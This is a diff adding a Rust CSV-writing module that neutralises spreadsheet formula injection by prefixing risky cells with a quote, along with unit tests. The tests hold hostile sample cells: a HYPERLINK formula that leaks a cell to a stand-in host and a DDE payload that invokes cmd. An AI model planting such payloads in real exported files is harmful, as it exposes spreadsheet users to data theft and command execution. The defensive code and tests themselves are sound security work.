@@ -1,0 +1,82 @@
+//! CSV as every `--format csv` and every `.csv` written by the app is made: one row at a time,
+//! each field through [`csv_field`].
+//!
+//! A spreadsheet reads a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage
+//! return before one) as a formula, so such a cell is written with a leading `'`, which makes
+//! it text. The rule applies to every cell, numbers included: the model refuses negative
+//! numbers, so no figure rechain writes starts with `-` and none is changed by it.
+
+use std::borrow::Cow;
+
+use crate::text::clean;
+
+/// One CSV record (RFC 4180 quoting), ending in a newline.
+pub fn csv_row<S: AsRef<str>>(fields: &[S]) -> String {
+    let mut out = String::new();
+    for (i, field) in fields.iter().enumerate() {
+        if i > 0 {
+            out.push(',');
+        }
+        out.push_str(&csv_field(field.as_ref()));
+    }
+    out.push('\n');
+    out
+}
+
+/// One field: unsafe characters shown as U+FFFD, a would-be formula made text, and quoted when
+/// it holds a comma, a quote or a line break or begins or ends with a space.
+pub fn csv_field(text: &str) -> Cow<'_, str> {
+    let text = defuse_formula(clean(text));
+    let needs_quotes = text.contains([',', '"', '\n', '\r'])
+        || text.starts_with(' ')
+        || text.ends_with(' ');
+    if !needs_quotes {
+        return text;
+    }
+    Cow::Owned(format!("\"{}\"", text.replace('"', "\"\"")))
+}
+
+/// The text with `'` in front when a spreadsheet would start a formula with its first
+/// character (or its first after white space, which some spreadsheets skip).
+fn defuse_formula(text: Cow<'_, str>) -> Cow<'_, str> {
+    let starts_formula = text.starts_with(['\t', '\r'])
+        || text.trim_start().starts_with(['=', '+', '-', '@']);
+    if starts_formula {
+        Cow::Owned(format!("'{text}"))
+    } else {
+        text
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formula_cells_become_text() {
+        assert_eq!(
+            csv_field("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click\"\")\""
+        );
+        assert_eq!(
+            csv_field("@SUM(1+1)*cmd|' /C calc'!A0"),
+            "'@SUM(1+1)*cmd|' /C calc'!A0"
+        );
+        assert_eq!(csv_field("+1"), "'+1");
+        assert_eq!(csv_field("-2+3"), "'-2+3");
+        assert_eq!(csv_field("\t=1"), "'\t=1");
+        assert_eq!(csv_field(" =1"), "' =1");
+        assert_eq!(csv_field("\n=1"), "\"'\n=1\"");
+    }
+
+    #[test]
+    fn plain_cells_are_kept_and_quoted_only_when_needed() {
+        assert_eq!(csv_field("Lynas Rare Earths"), "Lynas Rare Earths");
+        assert_eq!(csv_field("a & b"), "a & b");
+        assert_eq!(csv_field("10500"), "10500");
+        assert_eq!(csv_field("2025-10-23"), "2025-10-23");
+        assert_eq!(csv_field("one, \"two\""), "\"one, \"\"two\"\"\"");
+        assert_eq!(csv_field("a\nb"), "\"a\nb\"");
+        assert_eq!(csv_row(&["x", "y"]), "x,y\n");
+    }
+}
